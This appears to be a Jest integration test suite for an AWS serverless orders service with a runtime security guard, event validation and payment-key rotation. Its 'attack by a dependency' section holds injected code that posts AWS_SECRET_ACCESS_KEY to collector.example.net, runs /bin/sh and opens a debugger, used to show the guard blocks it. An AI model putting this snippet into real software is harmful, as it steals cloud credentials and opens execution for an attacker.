import { randomUUID } from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import { DescribeSecretCommand, GetResourcePolicyCommand, GetSecretValueCommand, PutSecretValueCommand } from '@aws-sdk/client-secrets-manager';
import { GetQueueAttributesCommand, ReceiveMessageCommand, SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { compareColdStarts, describeColdStarts } from '../../stage/cold-starts';
import { DeployedFunction } from '../../stage/deployment/deployment';
import { CLIENT, OrdersStage } from '../../stage/orders';
import { tour } from '../../stage/tour';

jest.setTimeout(900_000);

let stage: OrdersStage;
let sqs: SQSClient;

beforeAll(async () => {
  stage = new OrdersStage();
  await stage.start();
  sqs = new SQSClient(stage.moto.clientConfig);
});

afterAll(() => stage?.stop());

afterEach(async () => {
  stage.aws.recover();
  stage.provider.isDown = false;
  stage.provider.beforeAnswer = async () => undefined;
  await stage.queue.drain();
  expect(stage.internet.problems).toEqual([]);
});

const order = (changes: object = {}) => ({ id: randomUUID(), amount: 12, currency: 'EUR', ...changes });

const create = (body: unknown) => stage.call('POST', '/orders', body);

const status = (id: string) => stage.call('GET', `/orders/${id}`);

async function send(body: unknown): Promise<void> {
  await sqs.send(new SendMessageCommand({ QueueUrl: stage.queueUrl('Queue'), MessageBody: typeof body === 'string' ? body : JSON.stringify(body) }));
}

/** Receives the messages of a queue, as JSON; they become invisible. */
async function messagesIn(queue: string): Promise<any[]> {
  const request = { QueueUrl: stage.queueUrl(queue), MaxNumberOfMessages: 10, VisibilityTimeout: 3600 };
  const { Messages = [] } = await sqs.send(new ReceiveMessageCommand(request));
  return Messages.map(({ Body }) => JSON.parse(Body!));
}

/** Returns the log lines that are JSON of a type. */
function lines(log: string, type: string): any[] {
  return log.split('\n').filter((line) => line.startsWith(`{"type":"${type}"`)).map((line) => JSON.parse(line));
}

/** Returns the sum of a metric in a log, as CloudWatch reads it from the embedded metric format. */
function metric(log: string, type: string, name: string): number {
  const isCounted = ({ _aws }: any) => _aws?.CloudWatchMetrics.some(({ Metrics }: any) => Metrics.some(({ Name }: any) => Name === name));
  return lines(log, type).filter(isCounted).reduce((sum, line) => sum + line[name], 0);
}

async function labels(): Promise<Record<string, string>> {
  const { VersionIdsToStages = {} } = await stage.secretsManager.send(new DescribeSecretCommand({ SecretId: stage.secretArn }));
  return Object.fromEntries(Object.entries(VersionIdsToStages).flatMap(([id, stages]) => stages.map((label) => [label, id])));
}

async function keyIn(VersionId: string): Promise<string> {
  return (await stage.secretsManager.send(new GetSecretValueCommand({ SecretId: stage.secretArn, VersionId }))).SecretString!;
}

async function currentKey(): Promise<string> {
  return keyIn((await labels()).AWSCURRENT);
}

describe('examples/orders', () => {
  test('passes all steps of npm run stage', async () => {
    const steps = [];
    for await (const step of tour(stage)) steps.push(step);
    expect(steps.length).toBeGreaterThan(7);
    expect(steps.filter(({ isRight }) => !isRight)).toEqual([]);
  });

  test('an order is created, queued, paid and stored, and its status can be read', async () => {
    const first = order();
    expect(await create(first)).toMatchObject({ status: 202, body: JSON.stringify({ id: first.id }) });
    expect((await status(first.id)).status).toBe(404);
    await stage.queue.drain();
    expect(stage.provider.charges.get(first.id)).toEqual({ amount: 12, currency: 'EUR' });
    expect(JSON.parse((await status(first.id)).body)).toEqual({ ...first, paid: true });
    expect(stage.aws.rejected).toEqual([]);
  });

  test.each([
    ['without an amount', { amount: undefined }],
    ['with an amount of 0', { amount: 0 }],
    ['with an amount as text', { amount: '12' }],
    ['with a currency that is not known', { currency: 'XXX' }],
    ['with a property that is not known', { admin: true }],
    ['with an invalid id', { id: '1' }],
  ])('a body %s is rejected by the API and does not reach a function', async (_, changes) => {
    const { logs } = stage.fn('CreateOrder');
    expect(await create(order(changes))).toMatchObject({ status: 400, body: '{"message":"Bad request"}', headers: { 'x-amzn-errortype': 'BAD_REQUEST_BODY' } });
    expect(stage.fn('CreateOrder').logs).toBe(logs);
  });

  test.each(['', '{', '[]', 'null', '"text"'])('the body %j is rejected', async (body) => {
    expect((await stage.client.send('POST', '/prod/orders', body, { credentials: CLIENT })).status).toBe(400);
  });

  test('an invalid id is rejected by the function before its handler', async () => {
    const calls = stage.aws.calls.length;
    expect((await status('not-an-id')).status).toBe(400);
    expect(stage.aws.calls).toHaveLength(calls);
    expect(metric(stage.fn('OrderStatus').logs, 'event-validation', 'Rejected')).toBe(1);
  });

  test('a duplicate property, which API Gateway accepts, is rejected by the function', async () => {
    const { id } = order();
    const body = `{"id":"${id}","amount":1,"amount":1000,"currency":"EUR"}`;
    expect(await stage.client.send('POST', '/prod/orders', body, { credentials: CLIENT })).toMatchObject({ status: 400, body: expect.stringContaining('duplicate-key') });
    expect(await stage.queue.poll()).toBe(false);
  });

  test('an invalid message goes to quarantine, and valid ones of its batch are processed', async () => {
    const [good, bad] = [order(), order({ amount: -1 })];
    await send(good);
    await send(bad);
    await stage.queue.drain();
    expect(stage.provider.charges.has(good.id)).toBe(true);
    expect(stage.provider.charges.has(bad.id)).toBe(false);
    expect(await messagesIn('ProcessOrderEventValidationQuarantine')).toMatchObject([{ reason: { rule: 'minimum', field: '/amount' } }]);
    expect(await messagesIn('Failed')).toEqual([]);
  });

  test('the secret is rotated under load, and no order is lost or paid with an invalid key', async () => {
    const before = await currentKey();
    const orders = Array.from({ length: 30 }, () => order());
    const load = (async () => {
      for (const each of orders) {
        expect((await create(each)).status).toBe(202);
        await stage.queue.poll();
      }
    })();
    const rotated = await stage.rotation.run(await stage.rotation.begin());
    // The provider deletes the old key: later orders are paid with the new one.
    stage.provider.keys.delete(before);
    await load;
    await stage.queue.drain();
    expect(rotated).toBeUndefined();
    expect(await currentKey()).not.toBe(before);
    expect(orders.filter(({ id }) => !stage.provider.charges.has(id))).toEqual([]);
    expect(await messagesIn('Failed')).toEqual([]);
    const logs = ['ProcessOrder', 'RotatePaymentKey', 'PaymentKeyRotationFunction'].map((id) => stage.fn(id).logs).join('');
    for (const key of [before, await currentKey()]) expect(logs).not.toContain(key);
  });
});

describe('an attack by a dependency', () => {
  /** Code that sends the credentials away, starts a program, and opens a debugger, and hides errors. */
  const ATTACK = `
    const steal = async () => {
      const attempt = async (work) => { try { return await work(); } catch (error) { return error.code ?? error.cause?.code ?? error.message; } };
      const stolen = process.env.AWS_SECRET_ACCESS_KEY + ' of ' + process.env.AWS_LAMBDA_FUNCTION_NAME;
      return {
        sent: await attempt(async () => (await fetch('https://collector.example.net/', { method: 'POST', body: stolen })).status),
        shell: await attempt(() => require('child_process').execFileSync('/bin/sh', ['-c', 'echo started']).toString().trim()),
        inspector: await attempt(() => { require('inspector').open(0); return 'open'; }),
      };
    };
    const { handler } = require('./original');
    exports.handler = async (...event) => {
      console.log('ATTACK ' + JSON.stringify(await steal()));
      return handler(...event);
    };
  `;

  function attacked(): Partial<DeployedFunction> {
    const task = stage.copyOf(stage.fn('ProcessOrder').deployed.task);
    fs.renameSync(path.join(task, 'process.js'), path.join(task, 'original.js'));
    fs.writeFileSync(path.join(task, 'process.js'), ATTACK);
    return { task };
  }

  const outcome = (logs: string) => JSON.parse(/ATTACK (\{.*\})/.exec(logs)![1]);

  test('succeeds without the guard', async () => {
    const { AWS_LAMBDA_EXEC_WRAPPER, SEC3_RUNTIME_POLICY, ...variables } = stage.fn('ProcessOrder').deployed.variables;
    const paid = order();
    await send(paid);
    await stage.with('ProcessOrder', { ...attacked(), variables }, async (changed) => {
      await stage.queue.drain();
      expect(outcome(changed.logs)).toEqual({ sent: 200, shell: 'started', inspector: 'open' });
    });
    expect(stage.stolen.splice(0)).toEqual([expect.stringMatching(/^secret of Orders-ProcessOrder/)]);
    expect(stage.provider.charges.has(paid.id)).toBe(true);
  });

  test('is blocked and counted under the guard, and the order is still paid', async () => {
    const paid = order();
    await send(paid);
    await stage.with('ProcessOrder', attacked(), async (changed) => {
      await stage.queue.drain();
      const { sent, shell, inspector } = outcome(changed.logs);
      expect([sent, shell, inspector]).toEqual([expect.stringMatching(/^(ENOTFOUND|EACCES)$/), expect.stringMatching(/^(EACCES|EPERM|ERR_ACCESS_DENIED)$/), expect.stringMatching(/EACCES|EPERM|DENIED/)]);
      const events = lines(changed.logs, 'event').filter(({ action }) => action === 'blocked');
      expect(new Set(events.map(({ category }) => category))).toEqual(new Set(['network', 'childProcess', 'inspector']));
      expect(metric(changed.logs, 'event', 'Blocked')).toBeGreaterThanOrEqual(3);
      expect(events[0]).toMatchObject({ functionName: changed.deployed.name, requestId: expect.stringMatching(/^[0-9a-f-]{36}$/) });
    });
    expect(stage.stolen).toEqual([]);
    expect(stage.provider.charges.has(paid.id)).toBe(true);
  });
});

describe('a request without a valid signature', () => {
  const body = JSON.stringify(order());

  test.each([
    ['without a signature', {}, 'MISSING_AUTHENTICATION_TOKEN'],
    ['by a key that is not known', { credentials: { accessKeyId: 'AKIAUNKNOWN', secretAccessKey: 'client' } }, 'ACCESS_DENIED'],
    ['with a wrong secret', { credentials: { ...CLIENT, secretAccessKey: 'guessed' } }, 'INVALID_SIGNATURE'],
    ['an hour ago', { credentials: CLIENT, clock: -3_600_000 }, 'EXPIRED_TOKEN'],
    ['for another body', { credentials: CLIENT, sentBody: JSON.stringify(order({ amount: 1 })) }, 'INVALID_SIGNATURE'],
  ])('is rejected: %s', async (_, options, type) => {
    const { logs } = stage.fn('CreateOrder');
    expect(await stage.client.send('POST', '/prod/orders', body, options)).toMatchObject({ status: 403, body: '{"message":"Request rejected"}', headers: { 'x-amzn-errortype': type } });
    expect(stage.fn('CreateOrder').logs).toBe(logs);
  });

  test('is rejected for an unknown endpoint, too', async () => {
    expect((await stage.call('DELETE', '/orders')).status).toBe(403);
    expect((await stage.client.send('POST', '/orders', body, { credentials: CLIENT })).status).toBe(403);
  });
});

describe('a misconfigured function does not run', () => {
  /** Makes CreateOrder fail: nothing is queued, and the caller only learns that it failed. */
  async function fails(changes: Partial<DeployedFunction>, why: RegExp): Promise<void> {
    await stage.with('CreateOrder', changes, async (changed) => {
      expect(await create(order())).toMatchObject({ status: 502, body: '{"message":"Internal error"}' });
      expect(changed.logs).toMatch(why);
    });
    expect(await stage.queue.poll()).toBe(false);
  }

  const variables = (changes: Record<string, string>) => ({ variables: { ...stage.fn('CreateOrder').deployed.variables, ...changes } });

  function changedLayers(change: (opt: string) => void): Partial<DeployedFunction> {
    const opt = stage.copyOf(stage.fn('CreateOrder').deployed.opt);
    change(opt);
    return { opt };
  }

  function changedCode(change: (task: string) => void): Partial<DeployedFunction> {
    const task = stage.copyOf(stage.fn('CreateOrder').deployed.task);
    change(task);
    return { task };
  }

  test('without a runtime policy', () => fails(variables({ SEC3_RUNTIME_POLICY: '' }), /SEC3_RUNTIME_POLICY/));

  test('with a policy that is not JSON', () => fails(variables({ SEC3_RUNTIME_POLICY: '{"version":1' }), /SEC3_RUNTIME_POLICY/));

  test('with an unknown mode in the policy', () => {
    const policy = stage.fn('CreateOrder').deployed.variables.SEC3_RUNTIME_POLICY.replace('"network":"block"', '"network":"blok"');
    return fails(variables({ SEC3_RUNTIME_POLICY: policy }), /modes\/network/);
  });

  test('with a missing category in the policy', () => {
    const policy = stage.fn('CreateOrder').deployed.variables.SEC3_RUNTIME_POLICY.replace('"network":"block",', '');
    return fails(variables({ SEC3_RUNTIME_POLICY: policy }), /network/);
  });

  test('without the wrapper', () => fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-runtime-guard/wrapper'))), /wrapper: does not exist/));

  test('with a wrapper that is not executable', () => fails(changedLayers((opt) => fs.chmodSync(path.join(opt, 'sec3-runtime-guard/wrapper'), 0o644)), /wrapper: is not an executable/));

  test('without the native library of the guard', () =>
    fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-runtime-guard/native'), { recursive: true })), /native/));

  test('without the JavaScript layer of the guard', () => fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-runtime-guard/node/guard.cjs'))), /guard\.cjs/));

  test('without the validator', () => fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-event-validator'), { recursive: true })), /Cannot find module 'handler'/));

  test('without the schemas of the validator', () =>
    fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-event-validator/schemas.mjs'))), /schemas\.mjs/));

  test('with a missing handler', () => fails(variables({ SEC3_EVENT_HANDLER: 'missing.handler' }), /missing/));

  test('with code that fails at initialization', () => fails(changedCode((task) => fs.writeFileSync(path.join(task, 'create.js'), 'throw new Error("broken at init");')), /broken at init/));

  test('with code that only root may read', () => fails(changedCode((task) => fs.chmodSync(path.join(task, 'create.js'), 0o600)), /EACCES|permission denied/i));

  test('with a response that API Gateway rejects', () =>
    fails(changedCode((task) => fs.writeFileSync(path.join(task, 'create.js'), 'exports.handler = async () => "done";')), /END RequestId/));

  test('with a handler that exceeds its timeout', () =>
    fails({ ...changedCode((task) => fs.writeFileSync(path.join(task, 'create.js'), 'exports.handler = () => new Promise(() => setInterval(() => 0, 1000));')), timeout: 1 }, /Task timed out after 1.00 seconds/));
});

describe('a failure loses no order', () => {
  test('an unreachable queue: the caller gets an error', async () => {
    stage.aws.fail('SendMessage', 'unreachable');
    const lost = order();
    expect((await create(lost)).status).toBe(502);
    expect(await stage.queue.poll()).toBe(false);
  });

  test('a throttled table: the order is retried, and charged once', async () => {
    const [id, failed] = [order(), stage.queue.failed];
    await create(id);
    stage.aws.fail('PutItem', 'throttled');
    await stage.queue.poll();
    expect(stage.queue.failed).toBe(failed + 1);
    expect((await status(id.id)).status).toBe(404);
    stage.aws.recover();
    await stage.queue.drain();
    expect(JSON.parse((await status(id.id)).body)).toMatchObject({ paid: true });
  });

  test.each(['throttled', 'denied', 'unreachable'] as const)('a secret that is %s: nothing is charged, and the batch is retried', async (fault) => {
    const each = order();
    await create(each);
    stage.aws.fail('GetSecretValue', fault);
    await stage.queue.poll();
    expect(stage.provider.charges.has(each.id)).toBe(false);
    stage.aws.recover();
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });

  test('an unavailable provider: the order is retried', async () => {
    const each = order();
    await create(each);
    stage.provider.isDown = true;
    await stage.queue.poll();
    stage.provider.isDown = false;
    expect((await status(each.id)).status).toBe(404);
    await stage.queue.drain();
    expect((await status(each.id)).status).toBe(200);
  });

  test('a batch that partly fails: only that part is retried, and goes to the dead-letter queue', async () => {
    const [first, declined, last] = [order(), order(), order()];
    stage.provider.declined.add(declined.id);
    for (const each of [first, declined, last]) await send(each);
    const { received, failed } = stage.queue;
    await stage.queue.drain();
    // The declined order three times, and each other order once.
    expect([stage.queue.received - received, stage.queue.failed - failed]).toEqual([5, 3]);
    expect([first, declined, last].map(({ id }) => stage.provider.charges.has(id))).toEqual([true, false, true]);
    expect(await messagesIn('Failed')).toEqual([declined]);
    expect((await status(declined.id)).status).toBe(404);
  });

  test.each([
    ['throws', 'async () => { throw new Error("broken"); }'],
    ['names a message that was not sent', 'async () => ({ batchItemFailures: [{ itemIdentifier: "other" }] })'],
    ['names no message', 'async () => ({ batchItemFailures: [{}] })'],
    ['ends its process', 'async () => process.exit(0)'],
  ])('a handler that %s: the batch is retried', async (_, handler) => {
    const each = order();
    await create(each);
    const task = stage.copyOf(stage.fn('ProcessOrder').deployed.task);
    fs.writeFileSync(path.join(task, 'process.js'), `exports.handler = ${handler};`);
    const { failed } = stage.queue;
    await stage.with('ProcessOrder', { task }, () => stage.queue.poll());
    expect(stage.queue.failed).toBe(failed + 1);
    expect(stage.provider.charges.has(each.id)).toBe(false);
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });

  test('more invocations than the concurrency allows: callers get errors, and accepted orders are queued', async () => {
    const orders = Array.from({ length: 8 }, () => order());
    const answers = await Promise.all(orders.map(create));
    const accepted = orders.filter((_, index) => answers[index].status === 202);
    expect(new Set(answers.map(({ status: code }) => code))).toEqual(new Set([202, 502]));
    await stage.queue.drain();
    expect(orders.filter(({ id }) => stage.provider.charges.has(id))).toEqual(accepted);
  });

  test('an invalid message that the quarantine rejects: it is retried, not dropped', async () => {
    const bad = order({ currency: 'XXX' });
    await send(bad);
    stage.aws.fail('SendMessageBatch', 'unreachable');
    const { failed } = stage.queue;
    await stage.queue.poll();
    expect(stage.queue.failed).toBe(failed + 1);
    stage.aws.recover();
    await stage.queue.drain();
    expect(await messagesIn('ProcessOrderEventValidationQuarantine')).toMatchObject([{ reason: { field: '/currency' } }]);
  });

  test('an environment that is killed within a batch: the batch is retried', async () => {
    const each = order();
    await create(each);
    const { failed } = stage.queue;
    stage.provider.beforeAnswer = () => stage.fn('ProcessOrder').kill();
    await stage.queue.poll();
    expect(stage.queue.failed).toBe(failed + 1);
    expect(stage.provider.charges.has(each.id)).toBe(true);
    expect((await status(each.id)).status).toBe(404);
    stage.provider.beforeAnswer = async () => undefined;
    await stage.queue.drain();
    expect((await status(each.id)).status).toBe(200);
  });

  test('a function without a required variable: the batch is retried', async () => {
    const each = order();
    await create(each);
    const { PAYMENT_KEY_ARN, ...variables } = stage.fn('ProcessOrder').deployed.variables;
    const { failed } = stage.queue;
    await stage.with('ProcessOrder', { variables }, () => stage.queue.poll());
    expect(stage.aws.rejected.splice(0)).toHaveLength(1);
    expect(stage.queue.failed).toBe(failed + 1);
    expect(stage.provider.charges.has(each.id)).toBe(false);
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });

  test('a provider that the policy does not allow: nothing is charged, and the block is counted', async () => {
    const each = order();
    await create(each);
    const { variables } = stage.fn('ProcessOrder').deployed;
    const SEC3_RUNTIME_POLICY = variables.SEC3_RUNTIME_POLICY.replace('payments.example.com', 'payments.example.org');
    await stage.with('ProcessOrder', { variables: { ...variables, SEC3_RUNTIME_POLICY } }, async (changed) => {
      await stage.queue.poll();
      expect(metric(changed.logs, 'event', 'Blocked')).toBeGreaterThan(0);
    });
    expect(stage.provider.charges.has(each.id)).toBe(false);
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });
});

test('cold starts are compared with and without the guard and the validator', async () => {
  const comparison = await compareColdStarts(stage, 3);
  process.stdout.write(`${describeColdStarts(comparison)}\n`);
  expect([...comparison.keys()]).toEqual(['neither', 'validator', 'guard', 'both']);
  for (const milliseconds of comparison.values()) expect(milliseconds).toBeGreaterThan(0);
});

describe('the secret', () => {
  const reads = `
    const { SecretsManagerClient, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager');
    exports.handler = async () => {
      try {
        return { statusCode: 200, body: (await new SecretsManagerClient({}).send(new GetSecretValueCommand({ SecretId: process.env.SECRET }))).SecretString };
      } catch (error) {
        return { statusCode: 403, body: error.name };
      }
    };
  `;

  test('can’t be read by the code of a function without a grant', async () => {
    const { deployed } = stage.fn('OrderStatus');
    const task = stage.copyOf(deployed.task);
    fs.writeFileSync(path.join(task, 'status.js'), reads);
    await stage.with('OrderStatus', { task, variables: { ...deployed.variables, SECRET: stage.secretArn } }, async () => {
      expect(await status(randomUUID())).toMatchObject({ status: 403, body: 'AccessDeniedException' });
    });
    expect(stage.aws.rejected.splice(0)).toEqual([expect.stringMatching(/^GetSecretValue by Orders-OrderStatus/)]);
  });

  test('can’t be read by another function with the role of a granted one', async () => {
    const { deployed } = stage.fn('OrderStatus');
    const task = stage.copyOf(deployed.task);
    fs.writeFileSync(path.join(task, 'status.js'), reads);
    const { role } = stage.fn('ProcessOrder').deployed;
    await stage.with('OrderStatus', { task, role, variables: { ...deployed.variables, SECRET: stage.secretArn } }, async () => {
      expect((await status(randomUUID())).status).toBe(403);
    });
    expect(stage.aws.rejected.splice(0)).toHaveLength(1);
  });
});

describe('a failed rotation keeps the working key', () => {
  /** Runs a rotation that must fail at a step; the current key stays the same. */
  async function failsAt(step: string, token: string): Promise<void> {
    const [before, { AWSCURRENT }] = [await currentKey(), await labels()];
    expect(await stage.rotation.run(token)).toBe(step);
    expect(await currentKey()).toBe(before);
    expect((await labels()).AWSCURRENT).toBe(AWSCURRENT);
    expect(stage.provider.keys.has(before)).toBe(true);
  }

  test('if the provider issues no key, and continues once it does', async () => {
    const [token, before] = [await stage.rotation.begin(), await currentKey()];
    stage.provider.isDown = true;
    await failsAt('createSecret', token);
    stage.provider.isDown = false;
    expect(await stage.rotation.run(token)).toBeUndefined();
    expect(await currentKey()).not.toBe(before);
  });

  test('if the new key does not work', async () => {
    const token = await stage.rotation.begin();
    expect((await stage.rotation.step('createSecret', token)).functionError).toBeUndefined();
    stage.provider.keys.delete(await keyIn(token));
    await failsAt('testSecret', token);
  });

  test('if its pending version has expired because another rotation has begun', async () => {
    const expired = await stage.rotation.begin();
    const token = await stage.rotation.begin();
    await failsAt('createSecret', expired);
    expect(stage.fn('PaymentKeyRotationFunction').logs).toContain('AWSPENDING');
    expect(await stage.rotation.run(token)).toBeUndefined();
    expect(await currentKey()).toBe(await keyIn(token));
  });

  test('if Secrets Manager is throttled in the last step, and continues afterwards', async () => {
    const token = await stage.rotation.begin();
    stage.aws.fail('UpdateSecretVersionStage', 'throttled');
    await failsAt('finishSecret', token);
    stage.aws.recover();
    expect(await stage.rotation.run(token)).toBeUndefined();
  });

  test('if the adapter is killed', async () => {
    const token = await stage.rotation.begin();
    await stage.with('RotatePaymentKey', { handler: 'missing.handler' }, () => failsAt('createSecret', token));
    expect(await stage.rotation.run(token)).toBeUndefined();
  });

  test('if the event names another secret', async () => {
    const token = await stage.rotation.begin();
    const other = stage.secretArn.replace(/:secret:.*/, ':secret:other-AbCdEf');
    expect((await stage.rotation.step('createSecret', token, other)).payload).toContain('RotationRejected');
    expect(await stage.rotation.run(token)).toBeUndefined();
  });

  test('if someone stored a key by hand meanwhile, which stays', async () => {
    const key = stage.provider.issue();
    await stage.secretsManager.send(new PutSecretValueCommand({ SecretId: stage.secretArn, SecretString: key }));
    expect(await currentKey()).toBe(key);
    const each = order();
    await create(each);
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });
});

test('resources that moto’s CloudFormation omits exist', async () => {
  const { moto, deployment } = stage;
  const api = deployment.ref(deployment.logicalId('AWS::ApiGateway::RestApi'));
  const ofApi = async (what: string) => JSON.parse(await moto.rest('apigateway', 'GET', `/restapis/${api}/${what}`));
  const count = (type: string) => Object.values(deployment.template.Resources).filter(({ Type }) => Type === type).length;
  expect((await moto.query('monitoring', { Action: 'DescribeAlarms' })).match(/<AlarmName>/g)).toHaveLength(count('AWS::CloudWatch::Alarm'));
  expect((await ofApi('gatewayresponses')).item).toHaveLength(count('AWS::ApiGateway::GatewayResponse'));
  expect((await ofApi('requestvalidators')).item).toHaveLength(count('AWS::ApiGateway::RequestValidator'));
  expect((await ofApi('models')).item.map(({ name }: any) => name)).toContain(deployment.ref(deployment.logicalId('AWS::ApiGateway::Model')));
  expect(await ofApi('stages/prod')).toMatchObject({ stageName: 'prod' });
  expect(JSON.parse(await moto.rest('apigateway', 'GET', '/account')).cloudwatchRoleArn).toContain('Sec3ApiLogRole');
  const { trailList: trails } = await moto.json('cloudtrail', 'com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.DescribeTrails', {});
  expect(trails).toHaveLength(count('AWS::CloudTrail::Trail'));
  expect((await moto.json('wafv2', 'AWSWAF_20190729.ListWebACLs', { Scope: 'REGIONAL' })).WebACLs).toHaveLength(1);
  const { Attributes } = await sqs.send(new GetQueueAttributesCommand({ QueueUrl: stage.queueUrl('Queue'), AttributeNames: ['All'] }));
  expect(Attributes!.Policy).toContain('aws:SecureTransport');
  expect(Attributes!.RedrivePolicy).toContain('"maxReceiveCount": 3');
  expect((await stage.secretsManager.send(new GetResourcePolicyCommand({ SecretId: stage.secretArn }))).ResourcePolicy).toContain('DenyOtherReaders');
});
